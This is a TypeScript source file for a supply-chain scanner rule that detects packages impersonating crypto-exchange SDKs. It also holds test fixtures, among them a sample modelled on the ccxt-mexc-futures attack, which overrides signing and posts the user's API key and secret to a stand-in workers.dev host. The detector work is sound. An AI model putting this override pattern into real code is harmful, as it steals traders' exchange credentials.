import type { Action, Context, Finding, Rule } from '../lib/types.ts'
import type { BrandScore } from './brands/brand-score.ts'
import { brandScore } from './brands/brand-score.ts'
import type { Evidence } from './brands/evidence.ts'
import { evidenceOf } from './brands/evidence.ts'
import type { Reputation } from './brands/reputation.ts'
import { reputationOf } from './brands/reputation.ts'
import { whereToVerify } from './brands/where-to-verify.ts'
import { findingAt, findingInManifest, findingOfFlow, nameEvidence, opening, severityOf } from './finding.ts'
import type { NameMatch } from './names/name-lookup.ts'
import { nameLookup } from './names/name-lookup.ts'

const overridingSdk = `const ccxt = require('ccxt')
class MexcFutures extends ccxt.mexc {
  sign(path, api, method, params) {
    fetch('https://v3.mexc.inert-fixture.workers.dev/sign', {
      method: 'POST', body: JSON.stringify({ key: this.apiKey, secret: this.secret }),
    })
    return super.sign(path, api, method, params)
  }
}
module.exports = MexcFutures
`

/** A package that passes for somebody else's, judged by three separate sums: name, reputation and code. */
export const brandImpersonation: Rule = {
  meta: {
    id: 'brand-impersonation',
    title: 'Passes for a brand or a well-known package, and acts against its users',
    severity: 'critical',
    description:
      'Three sums are kept apart. Identity: what the name claims. Reputation: age, missing repository, a claimed organisation. Evidence: what the code does, such as sending a secret to a host that neither the brand nor the package owns, ' +
      'contacting a host that borrows the brand name, overriding how a known SDK signs. The name never blocks: the most used SDKs of several exchanges are third-party. ' +
      'It blocks where a claim meets evidence no honest client shows. Check the packages, scopes and domains of the brand that the report names.',
    references: [
      'ccxt-mexc-futures, April 2025: https://thehackernews.com/2025/04/malicious-pypi-package-targets-mexc.html',
      'https://safedep.io/malicious-polymarket-npm-crypto-wallet-drainer/',
      'https://github.com/binance/binance-connector-js/issues/76 (an honest package taken down by mistake)',
    ],
    blindSpots: [
      'Brands that are not in brands.json.',
      'Hosts that are only learned at run time, from a server or a contract.',
      'Wrong orders without any host: a swapped recipient inside an honest-looking transfer.',
    ],
    examples: {
      flags: [
        {
          title: 'a fake exchange SDK that overrides signing and sends the keys to a rented host',
          files: {
            'package.json':
              '{"name":"ccxt-mexc-futures","version":"0.1.0","main":"index.js","dependencies":{"ccxt":"^4.0.0"}}',
            'index.js': overridingSdk,
          },
          context: { name: 'ccxt-mexc-futures', version: '0.1.0', source: 'registry' },
        },
        {
          title: 'a name with two brands, from nobody known',
          files: {
            'package.json': '{"name":"ccxt-bybit-perp","version":"0.1.0","main":"index.js"}',
            'index.js': 'module.exports = {}',
          },
          context: { name: 'ccxt-bybit-perp', version: '0.1.0', source: 'registry' },
        },
      ],
      passes: [
        {
          title: 'a third-party SDK that sends keys to the exchange',
          files: {
            'package.json':
              '{"name":"bybit-api","version":"4.0.0","main":"index.js","repository":"https://github.com/tiagosiebler/bybit-api"}',
            'index.js':
              "exports.client = (apiKey, apiSecret) => fetch('https://api.bybit.com/v5/order', { headers: { k: apiKey, s: apiSecret } })",
          },
          context: { name: 'bybit-api', version: '4.0.0', source: 'registry' },
        },
        {
          title: 'a brand word inside another word',
          files: {
            'package.json': '{"name":"domexception-client","version":"1.0.0","main":"index.js"}',
            'index.js': 'module.exports = {}',
          },
          context: { name: 'domexception-client', version: '1.0.0', source: 'registry' },
        },
      ],
    },
  },
  check(inspection, context) {
    const claim = brandScore(context.name, context.lists)
    const match = claim.standing === 'unknown' ? nameLookup(context.name, context.lists)[0] : undefined
    const identity = Math.max(claim.score, match === undefined || match.score < 3 ? 0 : match.score)
    const evidence = evidenceOf(inspection, context, claim)
    if (identity < 3 && !evidence.some(item => item.strong)) return []
    // A look-alike that does nothing odd is what lookalike-name reports.
    if (claim.score < 3 && evidence.length === 0) return []
    const reputation =
      claim.standing === 'unknown'
        ? reputationOf(inspection, context, claim.brands)
        : { points: 0, reasons: [] }
    const action = judge(identity, reputation, evidence, claim, context)
    if (action === undefined) return []
    return [report(action, claim, match, reputation, evidence, context)]
  },
}

/**
 * No single group can block. `strong` evidence is what no honest package was seen doing; points that only add up, such
 * as a hook and hidden code, at most ask.
 */
function judge(
  identity: number,
  reputation: Reputation,
  evidence: readonly Evidence[],
  claim: BrandScore,
  context: Context,
): Action | undefined {
  const points = total(evidence)
  const strong = evidence.some(item => item.strong)
  if (strong && ((identity >= 4 && points >= 4) || points >= 7)) return 'block'
  if (identity >= 4 && (points >= 4 || (reputation.points >= 4 && points >= 2))) return 'ask'
  if (identity >= 3 && strong && points >= 4) return 'ask'
  // The official package itself, changed by a thief: wallet keys leave for a host its brand does not own.
  if (claim.standing === 'official' && strong && points >= 5 && holdsMoney(claim, context)) return 'ask'
  if (identity >= 4 && reputation.points >= 2 && (context.direct || context.typed)) return 'ask'
  return identity >= 3 ? 'note' : undefined
}

function holdsMoney(claim: BrandScore, context: Context): boolean {
  return claim.brands.some(brand => context.lists.words.money.has(brand.kind))
}

function total(evidence: readonly Evidence[]): number {
  return evidence.reduce((sum, item) => sum + item.points, 0)
}

function nameInWords(name: string, claim: BrandScore, reasons: readonly string[]): string {
  if (reasons.length === 0) return claim.standing === 'unknown' ? '' : `The package ${name} is a known one.`
  const brands = claim.brands
    .slice(0, 2)
    .map(brand => brand.name)
    .join(' or ')
  const whose = claim.score < 3 ? 'is not a well-known package' : `is not a known package of ${brands}`
  return `The package ${name} ${whose}. Its name ${reasons.slice(0, 3).join('; ')}.`
}

function report(
  action: Action,
  claim: BrandScore,
  match: NameMatch | undefined,
  reputation: Reputation,
  evidence: readonly Evidence[],
  context: Context,
): Omit<Finding, 'rule'> {
  const first = evidence[0]
  const name = [
    ...(claim.score >= 3 ? claim.reasons : []),
    ...(match !== undefined && match.score >= 3 ? [`resembles ${match.target}: ${match.reason}`] : []),
  ]
  const does = evidence.slice(0, 3).map(item => `it ${item.reason}`)
  const parts = [
    nameInWords(context.name, claim, name),
    first === undefined
      ? 'Its code shows nothing that speaks against it.'
      : `${opening({ phase: first.phase, byCall: true }).replace(/ it$/, '')} ${does.join('; ')}.`,
    reputation.reasons.length > 0 ? `Besides, ${reputation.reasons.slice(0, 3).join('; ')}.` : '',
    action === 'block' ? 'Do not give it a key; replace any it has seen.' : '',
    claim.standing === 'official' ? '' : whereToVerify(claim.brands, match?.target),
  ]
  const judged = {
    severity: severityOf(action),
    action,
    message: parts.filter(part => part !== '').join(' '),
  }
  if (first === undefined) return findingInManifest(nameEvidence(context.name), 'dormant', judged)
  const flow = evidence.find(item => item.flow !== undefined)?.flow
  const finding = findingAt(first.at, first.phase, judged)
  const steps = flow === undefined ? undefined : findingOfFlow(flow, judged).flow
  return steps === undefined ? finding : { ...finding, flow: steps }
}
